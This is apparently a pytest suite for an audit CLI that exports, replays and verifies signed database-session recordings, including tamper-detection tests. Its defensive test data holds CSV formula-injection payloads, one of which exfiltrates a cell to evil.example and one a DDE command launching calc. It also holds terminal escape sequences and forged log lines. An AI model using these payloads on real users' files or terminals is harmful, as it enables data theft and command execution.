"""``hoopfast audit`` end to end: the real CLI entry point against the admin
API served by uvicorn on a uvloop thread, over a real SQLite store of
hash-chained, signed recordings."""

from __future__ import annotations

import csv
import json
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hoopfast.api import create_app, start_api
from hoopfast.api.app import SESSION_PAGE_BLOCKS
from hoopfast.auditcli import render_replay
from hoopfast.cli import main
from hoopfast.devtls import CertFiles
from hoopfast.identity.devissuer import ISSUER, DevIssuer
from hoopfast.identity.tokens import TokenValidator
from hoopfast.identity.tokenstore import StoredToken, TokenStore
from hoopfast.recording.chain import Chain
from hoopfast.store.records import EventFilter
from tests.test_api import ANALYST, BASE, AuditApi, running_api


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory, issuer: DevIssuer) -> Iterator[AuditApi]:
    with running_api(tmp_path_factory.mktemp("cli"), issuer, big=300) as harness:
        yield harness


@pytest.fixture(autouse=True)
def no_ambient_token(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Nothing from the machine running the tests: no token, no stored login."""
    for name in ("HOOPFAST_TOKEN", "HOOPFAST_API_URL", "HOOPFAST_LOGIN_ISSUER"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("HOOPFAST_LOGIN_CLIENT_ID", raising=False)
    monkeypatch.setenv("HOOPFAST_TOKEN_FILE", str(tmp_path / "tokens.json"))


def run(
    capsys: pytest.CaptureFixture[str], api: AuditApi, *args: str, token: str | None = None
) -> tuple[int, str, str]:
    argv = ["audit", args[0], "--api", api.url, *args[1:]]
    if token is not None:
        argv += ["--token", token]
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def test_sessions_table(api: AuditApi, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, api, "sessions", token=api.token())
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0].split() == [
        "STARTED",
        "SESSION",
        "USER",
        "CONNECTION",
        "CLIENT",
        "STMTS",
        "EVENTS",
        "STATE",
    ]
    assert [line.split()[3] for line in lines[1:-1]] == [
        "s-dave-open",
        "s-bob-1",
        "s-alice-big",
        "s-alice-1",
    ]
    assert "s-carol-1" not in out  # the auditor's own session
    assert "2023-11-14 22:15:00.000 UTC" in out and "sealed (client closed)" in out
    assert lines[-1] == "(4 sessions)"

    code, out, _ = run(
        capsys, api, "sessions", "--user", "alice", "--limit", "1", token=api.token()
    )
    assert code == 0 and "s-alice-big" in out and "s-alice-1" not in out
    assert "(1 session; more exist: raise --limit)" in out


def test_export_jsonl(api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    target = tmp_path / "trail.jsonl"
    code, out, err = run(
        capsys, api, "export", "--format", "jsonl", "-o", str(target), token=api.token()
    )
    assert code == 0, err
    expected = api.expected(EventFilter(exclude_subject="carol"))
    lines = [json.loads(line) for line in target.read_text().splitlines()]
    assert [(x["session_id"], x["seq"]) for x in lines] == [(e.session_id, e.seq) for e in expected]
    assert out.strip() == f"exported {len(expected)} events to {target}"
    assert err == ""  # stderr is no terminal here: no progress bar
    assert not list(tmp_path.glob(".*.partial"))


def test_export_csv_with_filters_and_progress(
    api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "trail.csv"
    code, out, err = run(
        capsys,
        api,
        "export",
        "--since",
        "2023-11-14T22:15:00Z",
        "--until",
        str(BASE + 200),
        "--verdict",
        "deny",
        "--format",
        "csv",
        "--include-results",
        "--progress",
        "-o",
        str(target),
        token=api.token(),
    )
    assert code == 0, err
    expected = api.expected(
        EventFilter(since=BASE + 100, until=BASE + 200, verdict="deny", exclude_subject="carol")
    )
    assert expected
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["session_id"], int(r["seq"])) for r in rows] == [
        (e.session_id, e.seq) for e in expected
    ]
    assert list(rows[0]) == [
        "session_id",
        "seq",
        "at",
        "kind",
        "subject",
        "connection",
        "verdict",
        "text",
        "rows",
        "bytes",
        "duration_ms",
        "sqlstate",
        "tags",
        "results",
    ]
    first = rows[0]
    assert first["verdict"] == "deny" and first["text"] == "DROP TABLE items"
    assert first["sqlstate"] == "42501" and json.loads(first["results"]) == []
    assert first["at"].endswith("Z") and first["at"].startswith("2023-11-14T22:1")
    assert f"{len(expected)}/{len(expected)} events" in err and "100%" in err
    assert f"exported {len(expected)} events" in out

    # Results and tags of a query, unfiltered.
    target2 = tmp_path / "bob.csv"
    code, _, err = run(
        capsys,
        api,
        "export",
        "--user",
        "bob",
        "--format",
        "csv",
        "--include-results",
        "-o",
        str(target2),
        token=api.token(),
    )
    assert code == 0, err
    with target2.open(newline="", encoding="utf-8") as f:
        select = next(r for r in csv.DictReader(f) if r["text"].startswith("SELECT id"))
    assert select["tags"] == "SELECT 2" and select["rows"] == "2"
    assert json.loads(select["results"])[0]["rows"] == [["1", "item 1"], ["2", None]]


#: Statement texts a spreadsheet would read as formulas (and one it would not).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-- a comment first\nSELECT 1",
    "@SUM(1+1)",
    "\tSELECT 2",
    "SELECT '=not a formula'",
]


def test_export_csv_neutralises_formulas(
    tmp_path: Path, issuer: DevIssuer, capsys: pytest.CaptureFixture[str]
) -> None:
    """A CSV cell that starts like a formula gets a leading quote (the text
    comes from the person audited and the file is opened by an auditor's
    spreadsheet); --raw-csv keeps the text exactly as recorded."""
    with running_api(tmp_path / "store", issuer, big=1) as harness:
        chain = Chain("s-formulas")
        at = BASE + 1000
        records = [chain.append("session_start", at, "=eve", "main", "", {"groups": []})]
        for n, text in enumerate(FORMULAS, 1):
            body = {"n": n, "text": text, "params": None, "rule": None, "results": []}
            records.append(chain.append("statement", at + n, "=eve", "main", "allow", body))
        harness.loop.run(harness.store.write_recording(records, []))
        out_safe, out_raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
        for target, extra in ((out_safe, []), (out_raw, ["--raw-csv"])):
            code, _, err = run(
                capsys,
                harness,
                "export",
                "--since",
                str(at),
                "--format",
                "csv",
                *extra,
                "-o",
                str(target),
                token=harness.token(),
            )
            assert code == 0, err

    def rows(path: Path) -> list[dict[str, str]]:
        with path.open(newline="", encoding="utf-8") as f:
            return [r for r in csv.DictReader(f) if r["kind"] == "statement"]

    safe, raw = rows(out_safe), rows(out_raw)
    assert [r["text"] for r in raw] == FORMULAS
    assert [r["text"] for r in safe] == [t if t.startswith("SELECT") else "'" + t for t in FORMULAS]
    assert {r["subject"] for r in safe} == {"'=eve"} and {r["subject"] for r in raw} == {"=eve"}
    # Values that are not text are left alone.
    assert [r["seq"] for r in safe] == [r["seq"] for r in raw]


def test_replay(api: AuditApi, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, api, "replay", "s-bob-1", token=api.token())
    assert code == 0, err
    assert out.startswith("Session s-bob-1: bob on connection main\n")
    for expected in [
        "  client    10.0.0.7:50123 (psql)",
        "  tls       TLSv1.3 TLS_AES_256_GCM_SHA384",
        "  started   2023-11-14 22:15:00.000 UTC",
        "  ended     2023-11-14 22:15:00.900 UTC (client closed)",
        "  recorded  8 statements, 10 events",
        "[22:15:00.100 UTC] 1.250 ms\n"
        "main=> SELECT id, name FROM items WHERE id <= $1\n"
        "  parameters: $1='2'\n"
        " id |  name\n"
        "----+--------\n"
        "  1 | item 1\n"
        "  2 |\n"
        "(2 rows)\n",
        "main=> INSERT INTO items (name) VALUES ('x')\nINSERT 0 1\n",
        "  DENY (rule no-ddl)\nmain=> DROP TABLE items\n"
        "ERROR:  permission denied by the gateway  (SQLSTATE 42501)\n",
        "main=> SELECT 1/0\nERROR:  division by zero  (SQLSTATE 22012)\n",
    ]:
        assert expected in out, expected

    code, out, err = run(capsys, api, "replay", "s-carol-1", token=api.token())
    assert code == 2 and "segregation of duties" in err and out == ""
    code, _, err = run(capsys, api, "replay", "nope", token=api.token())
    assert code == 1 and "404" in err and "no session 'nope'" in err


def test_verify_ok_and_pinned_keys(api: AuditApi, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, api, "verify", token=api.token())
    assert code == 0, err
    events = sum(e.subject != "carol" for e in api.events)
    assert out.strip() == (
        f"OK: 4 sessions, {events} events verified; 3 sealed and signed, 1 not sealed "
        "(chain checked)"
    )
    code, out, _ = run(
        capsys, api, "verify", "--public-key", api.signer.public_hex, token=api.token()
    )
    assert code == 0 and "with the pinned key(s)" in out
    other = "11" * 32
    code, out, _ = run(capsys, api, "verify", "--public-key", other, token=api.token())
    assert code == 1
    assert f"BROKEN session s-alice-1, seal: unknown signing key {api.signer.key_id}" in out
    code, _, err = run(capsys, api, "verify", "--public-key", "zz", token=api.token())
    assert code == 2 and "not a hex Ed25519 public key" in err


def test_verify_finds_a_tampered_byte(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with running_api(tmp_path, issuer, big=20) as api:
        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 0, err
        with sqlite3.connect(api.db) as db:
            # One byte of event 2's data, inside the body of its block.
            first_seq, body = db.execute(
                "SELECT first_seq, body FROM event_blocks"
                " WHERE session_id = 's-bob-1' AND first_seq <= 2 AND last_seq >= 2"
            ).fetchone()
            lines = body.split("\n")
            assert lines[2 - first_seq].startswith("2\t")
            lines[2 - first_seq] = lines[2 - first_seq].replace(
                "INSERT INTO items", "INSERT INTO itemz", 1
            )
            tampered = "\n".join(lines)
            assert tampered != body and len(tampered) == len(body)
            db.execute(
                "UPDATE event_blocks SET body = ? WHERE session_id = 's-bob-1' AND first_seq = ?",
                (tampered, first_seq),
            )
        code, out, err = run(capsys, api, "verify", "--since", str(BASE), token=api.token())
    assert code == 1, (out, err)
    assert (
        "BROKEN session s-bob-1, event 2: content does not match its hash (record altered)" in out
    )
    assert "FAILED: 1 of 4 sessions broken" in out


def test_tokens_and_errors(
    api: AuditApi,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    bad = "eyJhbGciOiJFZERTQSJ9.e30.c2ln"
    code, out, err = run(capsys, api, "sessions", token=bad)
    assert code == 2 and out == ""
    assert "the API refused the token (401): invalid token:" in err
    assert bad not in err

    code, _, err = run(capsys, api, "sessions", token=api.token(ANALYST))
    assert code == 2 and "not allowed (403): alice holds none of the roles" in err

    code, _, err = run(capsys, api, "sessions")  # no token anywhere
    assert code == 2 and "run `hoopfast login`" in err and "--token" in err

    code, _, err = run(capsys, api, "sessions", "--since", "last tuesday", token=api.token())
    assert code == 2 and "since: not a time: 'last tuesday'" in err

    # $HOOPFAST_TOKEN, then the login stored by `hoopfast login`.
    monkeypatch.setenv("HOOPFAST_TOKEN", api.token())
    assert run(capsys, api, "sessions")[0] == 0
    monkeypatch.delenv("HOOPFAST_TOKEN")
    token = api.token()
    stored: dict[str, Any] = {"expires_at": time.time() + 900, "obtained_at": time.time()}
    TokenStore(tmp_path / "tokens.json").put(
        StoredToken(ISSUER, "hoopfast-cli", token, "access_token", **stored)
    )
    code, out, err = run(capsys, api, "sessions")
    assert code == 0 and "s-bob-1" in out, err
    assert token not in out + err

    # Nothing listening.
    code = main(["audit", "sessions", "--api", "http://127.0.0.1:9", "--token", token])
    err = capsys.readouterr().err
    assert code == 1 and "cannot reach the API at http://127.0.0.1:9" in err


def test_https_api_with_cacert(
    api: AuditApi, certs: CertFiles, capsys: pytest.CaptureFixture[str]
) -> None:
    validator = TokenValidator(api.config.identity)
    app = create_app(api.store, validator, lambda: api.config)
    server = api.loop.run(
        start_api(app, "127.0.0.1", 0, ssl_certfile=certs.cert_file, ssl_keyfile=certs.key_file)
    )
    try:
        url = f"https://localhost:{server.port}"
        argv = ["audit", "sessions", "--api", url, "--token", api.token()]
        code = main([*argv, "--cacert", str(certs.ca_file)])
        out, err = capsys.readouterr()
        assert code == 0 and "s-bob-1" in out, err
        code = main(argv)  # the system's CAs do not know the dev CA
        err = capsys.readouterr().err
        assert code == 1 and "CERTIFICATE_VERIFY_FAILED" in err
    finally:
        api.loop.run(server.close())
        validator.close()


def test_replay_rendering_of_awkward_sessions() -> None:
    """Truncated results, values over several lines, terminal escapes in
    recorded text (they must not act on the auditor's terminal), a held
    statement and a session still open."""
    detail: dict[str, Any] = {
        "session": {
            "session_id": "s-x",
            "subject": "zoe",
            "connection": "main",
            "client_address": "192.0.2.1:5000",
            "started_at": BASE,
            "ended_at": None,
            "end_reason": None,
        },
        "seal": None,
        "events": [
            {"seq": 0, "kind": "session_start", "data": {"groups": [], "tls": None}},
            {
                "seq": 1,
                "kind": "statement",
                "at": BASE + 1,
                "data": {
                    "started_at": BASE + 1,
                    "duration_ms": 2,
                    "verdict": "allow",
                    "text": "SELECT note\nFROM notes -- \x1b]0;pwned\x07",
                    "rows": 1000,
                    "tags": ["SELECT 1000"],
                    "results": [
                        {
                            "columns": [{"name": "note", "type_oid": 25}],
                            "rows": [["one\ntwo"], ["\x1b[2Jclear"]],
                            "truncated": True,
                        }
                    ],
                },
            },
            {
                "seq": 2,
                "kind": "statement",
                "at": BASE + 2,
                "data": {"verdict": "review", "text": "DELETE FROM notes", "tags": []},
            },
        ],
    }
    text = render_replay(detail)
    assert "\x1b" not in text and "\x07" not in text
    assert "  tls       none" in text and "  ended     - (still open" in text
    assert "  sealed    no" in text
    assert (
        "main=> SELECT note\n"
        "main-> FROM notes -- \\x1b]0;pwned\\x07\n"
        "     note\n"
        "--------------\n"
        " one         +\n"
        " two\n"
        " \\x1b[2Jclear\n"
        "(2 of 1000 rows recorded; the rest was not kept)\n"
    ) in text
    assert (
        "[22:13:22.000 UTC]  REVIEW\nmain=> DELETE FROM notes\n"
        "(held for a second person's review)\n"
    ) in text


# -- found by the review of the audit CLI and API --


def test_verify_finds_an_edited_session_row(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The sessions row is not hashed, but listings and segregation of
    duties filter by it: verify compares it with the hashed session_start."""
    with running_api(tmp_path, issuer, big=20) as api:
        for column, value in (("connection", "'other'"), ("started_at", "started_at - 3600")):
            with sqlite3.connect(api.db) as db:
                db.execute(f"UPDATE sessions SET {column} = {value} WHERE session_id = 's-bob-1'")
            code, out, err = run(capsys, api, "verify", token=api.token())
            assert code == 1, (out, err)
            assert f"BROKEN session s-bob-1, event 0: the session's stored {column} differs" in out
            with sqlite3.connect(api.db) as db:
                undo = "'main'" if column == "connection" else "started_at + 3600"
                db.execute(f"UPDATE sessions SET {column} = {undo} WHERE session_id = 's-bob-1'")
        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 0, (out, err)


def test_verify_finds_edited_block_columns(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A block's time range and verdict counts are what a filtered export
    selects it by, and no hash covers them: edited to hide the block's
    events from an export, verify reports it."""
    with running_api(tmp_path, issuer, big=20) as api:
        for change in (
            "first_at = 0, last_at = 0",
            """verdicts = '{"":2,"allow":8}'""",
            "events = events + 1",
        ):
            with sqlite3.connect(api.db) as db:
                before = db.execute(
                    "SELECT first_seq, last_seq, first_at, last_at, events, verdicts"
                    " FROM event_blocks WHERE session_id = 's-bob-1' ORDER BY first_seq LIMIT 1"
                ).fetchone()
                db.execute(
                    f"UPDATE event_blocks SET {change}"
                    " WHERE session_id = 's-bob-1' AND first_seq = ?",
                    (before[0],),
                )
            code, out, err = run(capsys, api, "verify", token=api.token())
            assert code == 1, (change, out, err)
            assert f"BROKEN session s-bob-1, event {before[0]}: the block of events" in out, out
            with sqlite3.connect(api.db) as db:
                db.execute(
                    "UPDATE event_blocks SET first_at = ?, last_at = ?, events = ?, verdicts = ?"
                    " WHERE session_id = 's-bob-1' AND first_seq = ?",
                    (*before[2:], before[0]),
                )
        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 0, (out, err)


def test_replay_and_verify_read_a_long_session_a_page_at_a_time(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A session of many blocks comes a page at a time (memory stays flat
    however long it is): replay prints every statement once, in order, and
    verify checks every event, and finds what was edited in a later page."""
    with running_api(tmp_path, issuer, big=2000) as api:
        with sqlite3.connect(api.db) as db:
            (blocks,) = db.execute(
                "SELECT count(*) FROM event_blocks WHERE session_id = 's-alice-big'"
            ).fetchone()
        assert blocks > 2 * SESSION_PAGE_BLOCKS
        pages = 0
        after: Any = None
        seqs: list[int] = []
        with api.client(api.token()) as client:
            while True:
                page = client.get(
                    "/v1/audit/sessions/s-alice-big/raw",
                    params={} if after is None else {"after": after},
                ).json()
                assert len(page["blocks"]) <= SESSION_PAGE_BLOCKS
                seqs += [e["seq"] for e in page["events"]]
                pages += 1
                after = page["next"]
                if after is None:
                    break
        assert pages >= 3 and seqs == list(range(2002))

        code, out, err = run(capsys, api, "replay", "s-alice-big", token=api.token())
        assert code == 0, err
        assert "  recorded  2000 statements, 2002 events" in out, out[:700]
        assert out.count("\nreports=> ") == 2000 and out.endswith("\n") and "\n\n\n" not in out

        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 0, err
        assert f"{sum(e.subject != 'carol' for e in api.events)} events verified" in out

        with sqlite3.connect(api.db) as db:
            last_first_seq, last_seq = db.execute(
                "SELECT first_seq, last_seq FROM event_blocks WHERE session_id = 's-alice-big'"
                " ORDER BY first_seq DESC LIMIT 1"
            ).fetchone()
            db.execute(
                "UPDATE event_blocks SET events = events + 1"
                " WHERE session_id = 's-alice-big' AND first_seq = ?",
                (last_first_seq,),
            )
        code, out, _ = run(capsys, api, "verify", token=api.token())
        assert code == 1
        assert (
            f"BROKEN session s-alice-big, event {last_first_seq}: the block of events "
            f"{last_first_seq}-{last_seq}: its stored seq range or event count differs" in out
        )
        with sqlite3.connect(api.db) as db:
            first_seq, body = db.execute(
                "SELECT first_seq, body FROM event_blocks"
                " WHERE session_id = 's-alice-big' AND first_seq <= 1100 AND last_seq >= 1100"
            ).fetchone()
            lines = body.split("\n")
            lines[1100 - first_seq] = lines[1100 - first_seq].replace('"n":1100', '"n":1101')
            db.execute(
                "UPDATE event_blocks SET body = ? WHERE session_id = 's-alice-big'"
                " AND first_seq = ?",
                ("\n".join(lines), first_seq),
            )
        code, out, _ = run(capsys, api, "verify", token=api.token())
        # The chain first: the altered event, not the edited block after it.
        assert code == 1
        assert "BROKEN session s-alice-big, event 1100: content does not match its hash" in out


def test_verify_names_events_added_after_the_seal() -> None:
    from hoopfast.recording.chain import Chain, verify_session
    from hoopfast.store.records import Seal

    chain = Chain("s")
    records = [chain.append("statement", float(i), "bob", "main", "allow", {}) for i in range(3)]
    seal = Seal("s", 2, records[1].hash, 2.0, "ended", "k", "00")
    problem = verify_session("s", records, seal, {})
    assert problem is not None and problem.seq == 2 and "added after the seal" in str(problem)
    again = verify_session("s", [records[0], records[1], records[1]], None, {})
    assert again is not None and "event 1 is stored again after event 1" in str(again)


def test_export_destinations(
    api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A directory is refused before anything is fetched; a symbolic link
    is followed (and stays a link); a FIFO is written to, not replaced."""
    import os
    import threading

    code, _, err = run(capsys, api, "export", "-o", str(tmp_path), token=api.token())
    assert code == 2 and "it is a directory" in err and "Traceback" not in err
    real = tmp_path / "real.jsonl"
    real.write_text("old")
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    code, _, err = run(capsys, api, "export", "-o", str(link), token=api.token())
    assert code == 0, err
    assert link.is_symlink() and real.read_text().startswith('{"')
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    code, _, err = run(capsys, api, "export", "-o", str(fifo), token=api.token())
    reader.join(30)
    assert code == 0, err
    assert fifo.is_fifo() and got and got[0] == real.read_bytes()


def test_export_write_failure_is_a_clear_error(
    api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A write that fails (a real full filesystem: a small tmpfs, filled) is
    an error naming the destination, not a traceback, and leaves no file."""
    from tests.test_recording import _fill, _small_tmpfs

    disk = tmp_path / "disk"
    with _small_tmpfs(disk, "64k"):
        _fill(disk)
        target = disk / "trail.jsonl"
        code, _, err = run(capsys, api, "export", "-o", str(target), token=api.token())
        left = sorted(p.name for p in disk.iterdir())
    assert code == 1 and f"cannot write {target}: No space left on device" in err, err
    assert "Traceback" not in err
    assert left == ["filler"]


def test_a_token_with_whitespace_is_stripped_or_refused_unshown(
    api: AuditApi, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A token read from a CRLF file works (stripped); one with a control
    character inside is refused without being printed (HTTP would refuse
    the header and quote it)."""
    token = api.token()
    monkeypatch.setenv("HOOPFAST_TOKEN", token + "\r\n")
    code, _, err = run(capsys, api, "sessions")
    assert code == 0, err
    broken = token[:20] + "\r" + token[20:]
    code, _, err = run(capsys, api, "sessions", token=broken)
    assert code == 2 and "--token: not a token" in err
    assert token[:20] not in err and token[20:] not in err


# -- found by the second review of the audit CLI and API --


def test_a_lone_surrogate_in_a_recorded_event_is_exported_and_replayed(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Text that was not UTF-8 is recorded with a lone surrogate (JSON's
    "\\udcff"), which has no UTF-8: the export broke off at that event (and
    lost every later one) and the replay of its session answered 500. Both
    now write it escaped, as it is stored."""
    with running_api(tmp_path, issuer, big=20) as api:
        chain = Chain("s-odd-1")
        start = chain.append(
            "session_start", BASE + 10, "erin", "main", "", {"groups": ["g\udcff"]}
        )
        statement = chain.append(
            "statement",
            BASE + 501,
            "erin",
            "main",
            "allow",
            {"text": "SELECT $1", "params": ["x\udcff"]},
        )
        api.loop.run(api.store.write_recording([start, statement], []))
        target = tmp_path / "trail.jsonl"
        code, _, err = run(capsys, api, "export", "-o", str(target), token=api.token())
        assert code == 0, err
        lines = [json.loads(line) for line in target.read_text().splitlines()]
        odd = [x for x in lines if x["session_id"] == "s-odd-1"]
        assert [x["data"].get("params") for x in odd] == [None, ["x\udcff"]]
        # Nothing after it lost:
        assert len(lines) == len(api.expected(EventFilter(exclude_subject="carol"))) + 2
        code, out, err = run(capsys, api, "replay", "s-odd-1", token=api.token())
        assert code == 0, err
        assert "groups    g\\udcff" in out and "$1='x\\udcff'" in out
        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 0, (out, err)


def test_replay_shows_newlines_in_one_line_fields_escaped() -> None:
    """A parameter, a column name or an application_name the person chose
    cannot start a line of its own in the replay: a fake error or a fake
    statement after a statement that ran."""
    forged = (
        "x'\nERROR:  denied by the gateway's policy\n\n[22:13:21.500 UTC] 0.200 ms\nmain=> SELECT 1"
    )
    detail: dict[str, Any] = {
        "session": {"session_id": "s-x", "subject": "zoe", "connection": "main"},
        "seal": None,
        "events": [
            {
                "seq": 0,
                "kind": "session_start",
                "data": {"application_name": "psql\n  sealed    yes"},
            },
            {
                "seq": 1,
                "kind": "statement",
                "at": BASE + 1,
                "data": {
                    "verdict": "allow",
                    "text": "DELETE FROM t WHERE a = $1",
                    "params": [forged],
                    "tags": ["DELETE 1\nERROR:  x"],
                    "results": [{"columns": [{"name": "a\nERROR:  y"}], "rows": []}],
                },
            },
        ],
    }
    lines = render_replay(detail).splitlines()
    assert not [line for line in lines if line.startswith(("ERROR", "main=> SELECT 1"))]
    assert "  sealed    no" in lines and "  sealed    yes" not in "\n".join(lines).split("\\n")
    assert any(line.startswith("  parameters: $1='x'\\nERROR:") for line in lines)


def test_bad_selections_and_session_ids_are_refused(
    api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """An empty filter (an unset shell variable) would select everything; a
    time in milliseconds was read as the year 55,000 (an empty export, and
    verify said OK); a session id holding a "/" reached another route."""
    target = tmp_path / "trail.jsonl"
    for option in ("--user", "--connection", "--since", "--until"):
        with pytest.raises(SystemExit) as exit_:
            run(capsys, api, "export", option, "", "-o", str(target), token=api.token())
        assert exit_.value.code == 2
        assert "empty" in capsys.readouterr().err
    for command in (["export", "-o", str(target)], ["verify"]):
        code, _, err = run(capsys, api, *command, "--since", "1700000000000", token=api.token())
        assert code == 2 and "past the year 9999 (milliseconds?)" in err, err
    assert not target.exists()
    for session_id in ("s-bob-1/raw", ".", ".."):
        code, _, err = run(capsys, api, "replay", session_id, token=api.token())
        assert code == 2 and "not a session id" in err and "Traceback" not in err


def test_export_file_is_private_and_never_an_existing_partial(
    api: AuditApi, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The export is created readable by its owner only, and its partial
    file is never one that exists: a link planted there sent the trail to
    the link's target; a second export to the same file shared it."""
    victim = tmp_path / "victim"
    victim.write_text("keep")
    target = tmp_path / "x.jsonl"
    (tmp_path / ".x.jsonl.partial").symlink_to(victim)
    code, _, err = run(capsys, api, "export", "-o", str(target), token=api.token())
    assert code == 2 and "exists" in err and "remove it" in err
    assert victim.read_text() == "keep" and not target.exists()
    (tmp_path / ".x.jsonl.partial").unlink()
    code, _, err = run(capsys, api, "export", "-o", str(target), token=api.token())
    assert code == 0, err
    assert target.stat().st_mode & 0o777 == 0o600


def test_api_url_credentials_are_not_shown(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code = main(["audit", "sessions", "--api", "http://admin:S3cretPw@127.0.0.1:9", "--token", "t"])
    err = capsys.readouterr().err
    assert code == 1 and "cannot reach the API at http://127.0.0.1:9" in err
    assert "S3cretPw" not in err


def test_sigterm_during_an_export_removes_the_unfinished_file(tmp_path: Path) -> None:
    """SIGTERM (or SIGHUP) ends a command as Ctrl-C does: what it was
    writing is cleaned up (an export's unfinished file is removed), and the
    exit code says which signal."""
    import os
    import signal
    import subprocess
    import sys

    script = tmp_path / "slow.py"
    script.write_text(
        "import os, sys, time\n"
        "from hoopfast import auditcli\n"
        "from hoopfast.apiclient import guarded\n"
        "def slow(args):\n"
        "    with auditcli._output(sys.argv[1], True) as out:\n"
        "        out.write(b'x'); out.flush(); print('writing', flush=True); time.sleep(30)\n"
        "    return 0\n"
        "sys.exit(guarded(slow, 'test')(None))\n"
    )
    target = tmp_path / "out.jsonl"
    child = subprocess.Popen(
        [sys.executable, str(script), str(target)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None and child.stdout.readline() == "writing\n"
    assert (tmp_path / ".out.jsonl.partial").exists()
    os.kill(child.pid, signal.SIGTERM)
    _, err = child.communicate(timeout=30)
    assert child.returncode == 128 + signal.SIGTERM and "SIGTERM" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["slow.py"]


def test_verify_finds_removed_tails_and_removed_seals_and_reads_on_past_a_bad_row(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a chain that verifies cannot show: an open session's events
    removed (the store's row still counts them), a seal removed (the row
    still says the session ended, or its session_end is stored), so that
    its tail could be cut. And a stored value the API cannot read (text in
    a number column) is that session's problem; the others are checked."""
    with running_api(tmp_path, issuer, big=20) as api:

        def verify(*edits: str) -> str:
            with sqlite3.connect(api.db) as db:
                for edit in edits:
                    db.execute(edit)
            code, out, err = run(capsys, api, "verify", token=api.token())
            assert code == 1, (out, err)
            return out + err

        out = verify("DELETE FROM event_blocks WHERE session_id = 's-dave-open'")
        assert (
            "BROKEN session s-dave-open, event 0: the store counts 3 events and 0 were found" in out
        )
        out = verify("UPDATE sessions SET signature = NULL WHERE session_id = 's-bob-1'")
        assert "BROKEN session s-bob-1, seal: the session ended but its seal is missing" in out
        out = verify("UPDATE sessions SET ended_at = NULL WHERE session_id = 's-bob-1'")
        assert (
            "BROKEN session s-bob-1, seal: the session ended (session_end) but has no seal" in out
        )
        out = verify("UPDATE event_blocks SET last_seq = 'x' WHERE session_id = 's-alice-1'")
        assert "BROKEN session s-alice-1, seal: its records cannot be read" in out
        assert "FAILED: 3 of 4 sessions broken" in out, capsys.readouterr()


def test_verify_finds_sessions_whose_row_was_removed_or_given_away(
    issuer: DevIssuer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Verify reads sessions by their rows, which no hash covers: a row
    deleted (its events altered, then still exported) or given to the
    auditor (hidden from their verify by segregation of duties, its events
    still in their export) is reported from the stored events."""
    with running_api(tmp_path, issuer, big=20) as api:
        with sqlite3.connect(api.db) as db:
            db.execute("DELETE FROM sessions WHERE session_id = 's-bob-1'")
            db.execute("UPDATE sessions SET subject = 'carol' WHERE session_id = 's-alice-1'")
        code, out, err = run(capsys, api, "verify", token=api.token())
        assert code == 1, (out, err)
        assert (
            "BROKEN session s-alice-1, seal: its session row names another subject or connection"
            in out
        )
        assert "BROKEN session s-bob-1, seal: its events are stored without a session row" in out
        code, out, err = run(capsys, api, "verify", "--since", str(BASE + 1000), token=api.token())
        assert code == 0, (out, err)  # (their events are not in that range)


def test_replay_and_csv_show_altered_data_as_far_as_it_reads() -> None:
    """Stored data altered into other types (a number where a list was, a
    time past the year 9999) is shown as it is, not a traceback: `audit
    verify` says what is wrong with it."""
    from hoopfast.auditcli import iso

    detail: dict[str, Any] = {
        "session": {"session_id": "s-x", "subject": "zoe", "connection": "main"},
        "seal": None,
        "events": [
            {"seq": 0, "kind": "session_start", "data": {"groups": 7}},
            {
                "seq": 1,
                "kind": "statement",
                "at": BASE + 1,
                "data": {
                    "started_at": 1e300,
                    "text": "SELECT 1",
                    "tags": 5,
                    "results": [{"columns": ["a"], "rows": 3}, {"columns": [], "rows": [7]}],
                },
            },
        ],
    }
    text = render_replay(detail)
